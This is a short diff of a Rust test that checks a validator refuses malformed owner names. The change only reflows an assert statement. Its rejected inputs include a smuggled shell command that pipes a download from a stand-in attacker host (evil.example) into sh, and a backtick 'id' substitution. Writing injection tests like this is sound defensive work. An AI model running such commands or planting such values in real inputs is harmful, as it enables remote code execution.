@@ -169,7 +169,10 @@ async fn an_owner_is_nothing_but_a_name() {
     };
     for owner in ["x'; curl -s http://evil.example/x | sh; echo '", "`id`", "a\nb", "", &"a".repeat(201)] {
         let refused = declared(owner).await;
-        assert!(matches!(refused, Err(Error::Refused { ref code, .. }) if code == "RL005"), "{owner}: {refused:?}");
+        assert!(
+            matches!(refused, Err(Error::Refused { ref code, .. }) if code == "RL005"),
+            "{owner}: {refused:?}"
+        );
     }
     declared("0a1b-2c/shop.eu/emails").await.unwrap();
 }
